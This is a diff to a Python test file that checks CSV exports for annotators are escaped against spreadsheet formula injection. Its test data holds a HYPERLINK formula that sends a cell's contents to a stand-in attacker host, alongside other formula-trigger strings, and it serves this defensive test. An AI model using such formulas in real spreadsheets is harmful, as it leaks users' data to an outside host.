@@ -129,7 +129,7 @@ def test_wrong_shape_answers_print_no_library_warnings(tmp_path: Path, fake_llm:
 
 
 # ------------------------------------------------------------- item 18: no formula in the annotators' CSV
-FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"open")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"open")', "+1+2", "-2+3", "@SUM(A1)"]
 
 
 def test_human_sample_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
@@ -151,6 +151,10 @@ def test_human_sample_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path) 
     for row in rows:
         for column, cell in row.items():
             assert not cell or cell[0] not in "=+-@\t\r", (column, cell[:40])
+    # a record's text is stripped when read; a cell can still begin with a tab or a carriage return
+    from agentjudge.people.validation import inert
+
+    assert inert("\t=1+1") == "'\t=1+1" and inert("\r@x") == "'\r@x" and inert("a=1") == "a=1"
 
 
 # ---------------------------------------------------------------- item 13: the viewer always answers
